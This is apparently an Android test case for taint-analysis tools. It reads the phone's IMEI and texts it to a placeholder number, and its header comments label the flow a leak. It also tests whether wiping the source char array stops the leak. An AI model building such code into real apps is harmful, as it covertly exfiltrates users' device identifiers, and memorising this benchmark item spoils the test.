// about       A string is made of the characters before the array is wiped.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Arrays;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    char[] chars = phone.getDeviceId().toCharArray();
    String text = new String(chars);
    // Too late: the string has its own characters.
    Arrays.fill(chars, '*');
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
